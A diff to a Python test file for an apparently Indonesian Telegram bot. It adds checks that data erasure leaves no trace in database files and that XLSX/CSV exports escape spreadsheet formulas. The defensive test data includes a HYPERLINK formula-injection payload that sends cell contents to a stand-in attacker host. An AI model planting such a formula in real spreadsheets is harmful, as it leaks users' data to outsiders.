@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
 import io
 import json
 import zipfile
@@ -11,6 +13,7 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 from sqlalchemy import inspect, select, text
+from sqlalchemy.engine import make_url
 
 from db.audit import record
 from db.broadcasts import create_broadcast
@@ -18,7 +21,7 @@ from db.models import AuditAction, BroadcastKind, CheckIn, CheckInStatus, Cohort
 from db.report import cohort_report
 from handlers.checkins import sweep_checkins
 from handlers.community import sweep_broadcasts
-from handlers.report import to_xlsx
+from handlers.report import to_csv, to_xlsx
 from tests.support.bots import InProcessBot
 from tests.support.inprocess import say, tap
 from tests.support.seeds import REPORT_NOW, report_cohort
@@ -117,6 +120,8 @@ async def test_deletion_leaves_no_row_with_her_id_and_no_file(bot: InProcessBot)
     await say(bot, alumna, "A")
     async with bot.app.runtime.open_session() as session:
         await record(session=session, action=AuditAction.COACH_DECLINED, actor=900001, now=REPORT_NOW, subject=6100)
+        her = await session.scalar(select(Person).where(Person.telegram_id == 6100))
+        her.agency = "ZQX-agency-5521"  # to find in the database files afterwards
         await session.commit()
     alumna.skip_read()
     confirm = await say(bot, alumna, "/hapus_data")
@@ -135,6 +140,24 @@ async def test_deletion_leaves_no_row_with_her_id_and_no_file(bot: InProcessBot)
                 assert hits == 0, f"{table}.{column} still holds her Telegram id"
         indicators, _ = await cohort_report(session=session, cohort=await session.get(Cohort, cohort.id), now=REPORT_NOW)
     assert (indicators.alumnae, indicators.promoted_or_assigned) == (4, 0.25)  # kept as anonymous counts
+    await assert_no_copy_left(bot, b"ZQX-agency-5521")
+
+
+async def assert_no_copy_left(bot: InProcessBot, marker: bytes) -> None:
+    """SQLite: not in the database file nor its write-ahead log. PostgreSQL: the tables were vacuumed."""
+    url = make_url(bot.app.runtime.settings.database_url)
+    if url.get_backend_name() == "sqlite":
+        files = [Path(f"{url.database}{suffix}") for suffix in ("", "-wal")]
+        assert [f.name for f in files if f.exists() and marker in f.read_bytes()] == []
+        return
+    async with bot.app.runtime.open_session() as session:
+        for _ in range(50):  # statistics reach the view within a second or so
+            vacuumed = await session.scalar(text("SELECT last_vacuum FROM pg_stat_user_tables WHERE relname = 'people'"))
+            if vacuumed is not None:
+                return
+            await session.rollback()
+            await asyncio.sleep(0.1)
+    raise AssertionError("the people table was not vacuumed after the erasure")
 
 
 async def test_after_withdrawing_consent_nothing_reaches_her(bot: InProcessBot) -> None:
@@ -194,3 +217,28 @@ async def test_report_from_the_command_line(bot: InProcessBot, database_url: str
     assert (await run("--format", "xlsx", "--out", str(out))).returncode == 0
     assert load_workbook(out)["Ringkasan"]["B2"].value == 4
     assert (await run("--format", "xlsx")).returncode == 2  # binary needs --out
+
+
+FORMULAS = ["=1+1", "+1", "-1", '=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "@SUM(A1)"]
+
+
+async def test_names_that_look_like_formulas_are_text_in_xlsx_and_csv(bot: InProcessBot) -> None:
+    cohort = await seed(bot)
+    async with bot.app.runtime.open_session() as session:
+        people = list(await session.scalars(select(Person).order_by(Person.telegram_id)))
+        for person, formula in zip(people, FORMULAS, strict=False):
+            person.name = formula
+        people[0].agency = "\tTab"
+        await session.commit()
+        cohort = await session.get(Cohort, cohort.id)
+        indicators, rows = await cohort_report(session=session, cohort=cohort, now=REPORT_NOW)
+    sheet = load_workbook(io.BytesIO(to_xlsx(bot.app.runtime.texts, "id", cohort, indicators, rows)))["Alumni"]
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in names) == sorted(FORMULAS[:4])
+    assert all(cell.data_type == "s" for cell in names)
+    agencies = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == "\tTab"]
+    assert [cell.data_type for cell in agencies] == ["s"]
+
+    written = list(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))
+    assert sorted(r["name"] for r in written) == sorted("'" + name for name in FORMULAS[:4])
+    assert "'\tTab" in [r["agency"] for r in written]
